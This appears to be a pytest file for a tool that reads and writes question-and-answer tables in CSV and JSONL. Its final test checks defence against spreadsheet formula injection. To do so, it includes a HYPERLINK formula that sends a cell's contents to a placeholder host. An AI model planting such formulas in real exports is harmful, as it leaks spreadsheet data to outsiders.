"""A person's question file: what is read, what is said of what cannot be, and that nothing is lost on the way back."""

from __future__ import annotations

import csv
import io
import json

import pytest

from terrarium.evaluation.lines import BadSet
from terrarium.evaluation.question_file import read_questions, to_json_lines
from terrarium.evaluation.question_rows import MOST_QUESTIONS, Row, checked_rows
from terrarium.evaluation.question_table import to_table
from terrarium.evaluation.questions import load_questions


def read(text: str | bytes, name: str = "mine.csv") -> tuple[list[Row], list[str]]:
    return read_questions(text if isinstance(text, bytes) else text.encode(), name)


PLAIN = "question,answer\nHow many books?,six\nWhen does it close?,19:00\n"


@pytest.mark.parametrize(
    "data",
    [
        PLAIN.encode(),
        PLAIN.encode("utf-8-sig"),
        PLAIN.encode("utf-16"),
        PLAIN.replace(",", ";").encode(),
        PLAIN.replace(",", "\t").replace("\n", "\r\n").encode(),
        b"\n" + PLAIN.upper().encode().replace(b"HOW MANY BOOKS", b"How many books").replace(b"SIX", b"six"),
    ],
    ids=["commas", "BOM", "UTF-16", "semicolons", "tabs and CRLF", "capitals behind an empty line"],
)
def test_a_table_of_questions_and_answers(data: bytes):
    rows, notes = read(data)
    assert [row["id"] for row in rows] == ["q1", "q2"]
    assert (rows[0]["question"], rows[0]["answers"]) == ("How many books?", ["six"])
    assert notes == []


def test_other_letters_than_utf8_are_guessed_as_for_documents():
    text = "question;answer\nWie groß ist die Straße über den Fluß?;zwölf Meter\nWo wächst die Blüte?;im Süden\n"
    rows, _ = read(text.encode("cp1252"))
    assert rows[0]["question"] == "Wie groß ist die Straße über den Fluß?"


def test_every_column_and_a_cell_with_the_delimiter_a_line_break_and_quotation_marks():
    text = (
        "id,kind,question,answer,document,page,quote,answerable,owner\n"
        'a,own,"How many, at most?","six\nbooks",rules.pdf,2,"up to ""six"" books",yes,me\n'
        "b,own,Who won the cup?,,,,,no,me\n"
        "c,own,Where is the key?,,house.txt,,,,me\n"
    )
    rows, notes = read(text)
    assert rows[0] == {
        "id": "a",
        "kind": "own",
        "question": "How many, at most?",
        "answers": ["six\nbooks"],
        "evidence": [{"file": "rules.pdf", "quote": 'up to "six" books', "page": 2}],
    } | {"answerable": True}
    assert rows[1]["answerable"] is False
    assert rows[2]["document"] == "house.txt" and "evidence" not in rows[2]
    assert notes == ["Columns that are not used: owner."]


def test_one_column_may_hold_commas_in_every_question():
    rows, _ = read("question\nWhat, if any, is due?\nWho, then, pays?\n")
    assert [row["question"] for row in rows] == ["What, if any, is due?", "Who, then, pays?"]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "holds no questions|no column “question”"),
        ("question,answer\n", "holds no questions"),
        ("frage,antwort\nWie viele?,sechs\n", "no column “question”.*frage, antwort"),
        ("question,question\na?,b?\n", "“question” twice"),
        ("question,answer\nHow many?,six\n,seven\n", "line 3, has no question"),
        ("question,answer\nHow many?,six\nWhy, then?,so,too\n", "line 3, has 4 cells, the first line names 2"),
        ('question,answer\n"one\ntwo?",x\n"open?,y\n', "line 4, is no row.*quotation mark"),
        ("question,answer,page,document\nHow many?,six,two,a.pdf\n", "line 2,: the page “two”"),
        ("question,answer,quote\nHow many?,six,up to six\n", "line 2, has a quote or a page but no document"),
        ("question,answerable\nHow many?,perhaps\n", "yes or no, not “perhaps”"),
        ("id,question\nx,One thing?\nx,Another thing?\n", "line 3, has the id “x” of line 2"),
        ("question\n" + "".join(f"Number {n}?\n" for n in range(MOST_QUESTIONS + 1)), "more than 500"),
        ("question\n" + "a" * 2001 + "\n", "2001 characters"),
    ],
)
def test_what_cannot_be_read_is_said_with_its_line(text: str, said: str):
    with pytest.raises(BadSet, match=said):
        read(text)


def test_bytes_that_are_no_text():
    with pytest.raises(BadSet, match="not text"):
        read(bytes(range(32)) * 40)


def test_a_question_that_comes_again_is_left_out_and_said():
    rows, notes = read("question\nHow many books?\nWhen?\nhow many books?\n")
    assert len(rows) == 2
    assert notes == ["Line 4 asks what line 2 asks, and is left out."]


def test_an_id_that_is_given_is_not_given_again():
    rows, _ = read("id,question\n,One?\nq1,Two?\n,Three?\n")
    assert [row["id"] for row in rows] == ["q2", "q1", "q3"]


def test_the_projects_own_format_with_a_bom():
    lines = [
        {"id": "e1", "kind": "own_words", "question": "How many?", "evidence": [{"file": "a.pdf", "quote": "six"}]},
        {"question": "Why?", "answers": ["so"], "must_mention": ["so|thus"], "answerable": False, "extra": 1},
    ]
    text = "\n\n".join(map(json.dumps, lines))
    rows, _ = read(text.encode("utf-8-sig"), "mine.jsonl")
    assert rows[0] == lines[0]
    assert rows[1]["id"] == "q1" and "extra" not in rows[1] and rows[1]["answerable"] is False


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("{not json", "line 2, is no JSON"),
        ("[1]", "line 2, is no object"),
        ('{"answers": ["six"]}', "line 2, has no question"),
        ('{"question": "x?", "answers": "six"}', "“answers” is a list"),
        ('{"question": "x?", "evidence": [{"file": "a"}]}', "“file” and “quote”"),
        ('{"question": "x?", "answerable": "no"}', "true or false"),
    ],
)
def test_a_line_of_json_that_is_no_question(line: str, said: str):
    with pytest.raises(BadSet, match=said):
        read('{"question": "first?"}\n' + line, "mine.jsonl")


def test_what_is_written_is_read_back_and_by_the_desk_too(tmp_path):
    rows, _ = read(
        "question,answer,document,page,quote,answerable\n"
        'How many?,six,rules.pdf,2,up to six,yes\n"Who, then?",,,,,no\nWhere?,,house.txt,,,\n'
    )
    for text, name in ((to_json_lines(rows), "mine.jsonl"), (to_table(rows), "mine.csv")):
        again, _ = read(text, name)
        assert [{"answerable": True} | row for row in again] == [{"answerable": True} | row for row in rows]
    path = tmp_path / "mine.jsonl"
    path.write_text(to_json_lines(rows), encoding="utf-8")
    first, second, _ = load_questions(path)
    assert (first.text, first.answers, first.evidence[0].quote) == ("How many?", ("six",), "up to six")
    assert not second.answerable


def test_no_cell_of_a_written_table_is_a_formula():
    rows = checked_rows([{"question": '=HYPERLINK("http://x.example?"&A1)', "answers": ["-1", "@x"]}])
    text = to_table(rows)
    cells = next(iter(csv.DictReader(io.StringIO(text))))
    assert cells["question"].startswith("'=") and cells["answer"] == "'-1"
    (again,), _ = read(text)
    assert again["question"] == rows[0]["question"] and again["answers"] == ["-1"]
